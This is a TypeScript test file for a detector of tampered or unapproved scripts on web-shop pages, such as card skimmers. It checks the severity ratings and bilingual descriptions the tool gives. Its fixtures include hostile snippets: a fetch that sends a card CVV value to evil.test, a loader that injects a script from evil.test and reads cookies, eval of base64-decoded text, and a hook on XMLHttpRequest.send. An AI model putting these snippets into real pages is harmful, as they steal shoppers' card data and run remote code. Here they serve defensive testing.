import type { BlobRef, Finding } from '@komainu/model';
import { describe, expect, test } from 'vitest';
import { understand } from '../src/code/understand/understand.ts';
import type { Understanding } from '../src/index.ts';
import { judgeCheck, judgeFiles, suspectsOfCheck, suspectsOfReport } from '../src/index.ts';
import { HONEST, SKIMMER } from './code-samples.ts';
import { altered, approval, PAGE, recordingOf, REF, report, script, SHOP, store } from './make.ts';

const APP = `${SHOP}/app.js`;
const honest = `(function () { var form = document.forms[0]; form.addEventListener('change', function () { total(form); }); fetch('/cart'); })();`;

/** The finding on a script that was `before` when it was approved; everything understood, as the analyst would. */
function found(
  before: string | null,
  after: string,
  more: { readonly code?: (ref: BlobRef) => Understanding | undefined; readonly url?: string | null } = {},
): Finding {
  const kept = store();
  const url = more.url === undefined ? APP : more.url;
  const where = url ?? `inline:${PAGE}`;
  const scripts =
    before === null ? [] : [{ where, hashes: [kept.put(before)], owner: null, justification: null }];
  const code =
    more.code ??
    ((ref: BlobRef) => {
      const body = kept.bodies(ref);
      return body === undefined ? undefined : understand(new TextDecoder().decode(body));
    });
  const { findings } = judgeCheck({
    recordings: [{ ref: REF, recording: recordingOf({ scripts: [script(kept, url, after)] }) }],
    baseline: approval({ scripts }),
    bodies: kept.bodies,
    code,
  });
  const [one] = findings.filter(({ detector }) => detector.endsWith('-script'));
  if (one === undefined) throw new Error('nothing was found');
  return one;
}

describe('a change in one sentence', () => {
  test.each([
    [
      'a skimmer appended',
      `${honest}${SKIMMER}`,
      'critical',
      'it now also reads card fields (every field, values of fields)',
      'sends data to cdn-metrics.evil.test (in the address of an image, in the address of an element)',
      '1 new listener (submit)',
    ],
    [
      'two listeners',
      `${honest}d.onkeyup = f; d.addEventListener('submit', g)`,
      'high',
      '2 new listeners (keyup, submit)',
    ],
    ['one more of what it does', `${honest}fetch('/zip')`, 'high', 'more of: fetch +1'],
    [
      'code from text',
      `${honest}eval(atob(location.hash))`,
      'high',
      'builds code from text and runs it (eval)',
      'turns data into other characters (base64)',
    ],
    ['a new host', `${honest}log('//stats.test/')`, 'high', 'names stats.test'],
    [
      'another host in the same place',
      honest.replace('/cart', '//evil.test/cart'),
      'high',
      'it is built as before; only texts, numbers or names of properties differ',
      'names evil.test',
    ],
    [
      'a hook',
      `${honest}XMLHttpRequest.prototype.send = f`,
      'high',
      'replaces functions of the browser (send)',
    ],
    [
      'a frame',
      `${honest}b.appendChild(document.createElement('iframe'))`,
      'high',
      'puts a frame or form into the page (frame)',
    ],
    [
      'it looks whether it is watched',
      `${honest}if (!navigator.webdriver) f('https://e.test')`,
      'critical',
      'looks whether it is watched (automated browsers)',
    ],
  ] as const)('%s', (_, after, severity, ...says) => {
    const finding = found(honest, after);
    expect(finding).toMatchObject({ detector: 'changed-script', grade: 'changed', severity });
    for (const said of says) expect(finding.detail.en).toContain(said);
    expect(finding.detail.ja).toMatch(/バイト/);
  });

  test('in Japanese', () => {
    const { detail } = found(honest, `${honest}${SKIMMER}`);
    expect(detail.ja).toContain('カードの入力欄を読み取る（すべての入力欄、入力欄の値）');
    expect(detail.ja).toContain('cdn-metrics.evil.test へデータを送信する');
    expect(detail.ja).toContain('新たに1件のイベントを監視（submit）');
  });

  test('the same code minified anew is changed all the same, of low severity', () => {
    const finding = found(honest, honest.replaceAll('form', 'x').replaceAll('; ', ';'));
    // `document.forms` became `document.xs`: another property.
    expect(finding.severity).not.toBe('low');
    const minified = honest
      .replace('var form', 'var q')
      .replaceAll(/\bform([.)])/g, 'q$1')
      .replaceAll('; ', ';');
    expect(minified).not.toBe(honest);
    expect(found(honest, minified)).toMatchObject({
      detector: 'changed-script',
      grade: 'changed',
      severity: 'low',
    });
    expect(found(honest, minified).detail.en).toContain('the same code, minified or renamed anew');
    expect(found(honest, minified).detail.ja).toContain('同じコードを圧縮し直した');
  });

  test('without understanding, the text is compared as before', () => {
    const { detail, severity } = found(honest, `${honest}${SKIMMER}`, { code: () => undefined });
    expect(severity).toBe('critical');
    expect(detail.en).toContain('names card fields');
  });

  test('what was not understood is never less grave than its text', () => {
    const not = { kind: 'not-understood', bytes: 9, reason: 'memory' } as const;
    for (const [before, after] of [
      [honest, `${honest}${SKIMMER}`],
      [honest, `${honest}f()`],
      [null, SKIMMER],
      [null, 'f()'],
    ] as const) {
      const order = ['low', 'medium', 'high', 'critical'];
      const text = found(before, after, { code: () => undefined });
      const blind = found(before, after, { code: () => not });
      expect(order.indexOf(blind.severity)).toBeGreaterThanOrEqual(order.indexOf(text.severity));
      expect(blind.grade).toBe('changed');
    }
    expect(found(null, 'f()', { code: () => not }).detail.en).toContain(
      'took more memory than any honest script',
    );
  });

  test('what taking the disguise off brought to light is told as that', () => {
    const revealed = understand(SKIMMER);
    const after = `${honest};x()`;
    const finding = found(honest, after, {
      code: (ref) => (ref === store().put(after) ? { ...understand(after), revealed } : understand(honest)),
    });
    expect(finding.severity).toBe('critical');
    expect(finding.detail.en).toContain('after deobfuscation it also reads card fields');
    expect(finding.detail.ja).toContain('難読化を解除すると');
  });

  test('hostile names cannot write the sentence', () => {
    const finding = found(
      honest,
      `${honest}d.addEventListener('x\\u202e${'long'.repeat(99)}', f); f('https://${'a'.repeat(63)}.${'b'.repeat(63)}.evil.test/')`,
    );
    expect(finding.detail.en).not.toContain('\u202e');
    expect(finding.detail.en.length).toBeLessThan(1500);
  });
});

describe('a stranger', () => {
  test.each([
    [
      'a skimmer',
      SKIMMER,
      'high',
      ['reads card fields', 'sends data to cdn-metrics.evil.test', '1 listener (submit)'],
    ],
    ['an honest snippet', HONEST[0] ?? '', 'medium', ['bytes']],
    ['a tag', HONEST[3] ?? '', 'medium', ['loads further code (script element)', 'tags.example']],
    [
      'a loader by code',
      `var s=document['createElement']('scr'+'ipt');s.src='//evil.test/x.js';document.cookie.cardnum`,
      'high',
      ['evil.test'],
    ],
  ])('%s', (_, body, severity, says) => {
    const finding = found(null, body, { url: 'https://cdn.test/x.js' });
    expect(finding).toMatchObject({ detector: 'unapproved-script', grade: 'changed', severity });
    for (const said of says) expect(finding.detail.en).toContain(said);
  });
  test('approved inline code minified anew is told as that', () => {
    const body = '(function () { var step = 3; show(step) })()';
    const finding = found(body, '(function(){var a=3;show(a)})()', { url: null });
    expect(finding).toMatchObject({ detector: 'unapproved-script', grade: 'changed', severity: 'low' });
    expect(finding.detail.en).toContain('the same code as an approved script here');
    expect(found(body, '(function(){var a=4;show(a)})()', { url: null }).severity).toBe('medium');
  });
});

test('static suspicion alone is never more than changed', () => {
  for (const body of [
    SKIMMER,
    `eval(atob('${'QUJD'.repeat(300)}'))`,
    `fetch('//evil.test/'+document.forms[0].cvv.value)`,
  ])
    expect(found(honest, `${honest}${body}`).grade).toBe('changed');
});

describe('what is worth understanding', () => {
  const kept = store();
  const app = script(kept, APP, honest);
  const other = script(kept, APP, `${honest}f()`);
  const stranger = script(kept, 'https://evil.test/x.js', 'x');
  const { baseline } = approval({
    scripts: [
      { where: APP, hashes: [app.body], owner: null, justification: null },
      { where: 'https://tags.test/t.js', hashes: [], owner: null, justification: null },
    ],
  });
  const of = (...scripts: readonly ReturnType<typeof script>[]) =>
    suspectsOfCheck([recordingOf({ scripts })], baseline, kept.bodies);
  test('what is approved costs nothing', () => {
    expect(of(app, script(kept, 'https://tags.test/t.js', 'today()'))).toEqual([]);
    expect(suspectsOfCheck([recordingOf({ scripts: [stranger] })], null, kept.bodies)).toEqual([]);
    expect(suspectsOfCheck([recordingOf({ failed: ['scripts'] })], baseline, kept.bodies)).toEqual([]);
  });
  test('changed and new scripts, each once, with what they were made from', () => {
    expect(of(app, other, stranger, other)).toEqual([
      { ref: other.body, approved: [app.body] },
      { ref: stranger.body, approved: [] },
    ]);
  });
  test('a flood is bounded', () => {
    expect(
      of(...Array.from({ length: 400 }, (_, i) => script(kept, `https://evil.test/${i}.js`, `${i}`))),
    ).toHaveLength(300);
  });
});

test('a sealed script is told by what it does, a template by its text', () => {
  const kept = store();
  const js = altered(kept, 'js/pay.js', honest, `${honest}${SKIMMER}`);
  const php = altered(kept, 'pay.php', '<?php a();', '<?php b();');
  const over = report([js, php]);
  expect(suspectsOfReport(over)).toEqual([{ ref: js.bodyAfter, approved: [js.bodyBefore] }]);
  const code = (ref: BlobRef) =>
    ref === js.bodyBefore
      ? understand(honest)
      : ref === js.bodyAfter
        ? understand(`${honest}${SKIMMER}`)
        : undefined;
  const { findings, verdict } = judgeFiles({ ref: REF, report: over, bodies: kept.bodies, code });
  expect(verdict.kind).toBe('tampered');
  const said = findings.find(({ key }) => key.includes('pay.js'))?.detail.en ?? '';
  expect(said).toContain('it now also reads card fields');
  expect(said).toContain('cdn-metrics.evil.test');
});
